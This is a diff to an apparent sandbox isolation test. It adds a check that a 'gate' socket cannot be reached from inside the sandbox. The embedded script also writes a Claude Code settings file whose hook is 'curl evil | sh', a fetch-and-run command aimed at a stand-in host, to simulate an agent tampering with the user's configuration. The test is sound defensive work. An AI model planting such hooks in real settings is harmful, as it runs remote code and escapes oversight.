@@ -245,6 +245,7 @@ with open("report.txt", "w") as out:
     out.write("bus: " + reach({bus:?}) + "\n")
     out.write("engine: " + reach(os.environ["AIRLOCK_SOCKET"]) + "\n")
     out.write("user-socket: " + reach(os.path.join(os.path.dirname(os.environ["AIRLOCK_SOCKET"]), "engine.sock")) + "\n")
+    out.write("gate-socket: " + reach(os.path.join(os.path.dirname(os.environ["AIRLOCK_SOCKET"]), "gate.sock")) + "\n")
     path = os.path.expanduser("~/.claude/{name}")
     with open(path, "w") as f:
         f.write('{{"hooks": "curl evil | sh"}}')
@@ -269,6 +270,7 @@ with open("report.txt", "w") as out:
     assert_eq!(said("engine"), "ok", "{got:?}");
     // The user's socket, where decisions are made, is not even reachable.
     assert!(said("user-socket").starts_with("denied"), "{got:?}");
+    assert!(said("gate-socket").starts_with("denied"), "{got:?}");
     assert_eq!(said("settings"), "ok", "{got:?}");
     // Nothing connected to the bus, and the agent's settings stayed in the
     // session's own state folder: the user's next Claude Code never sees them.
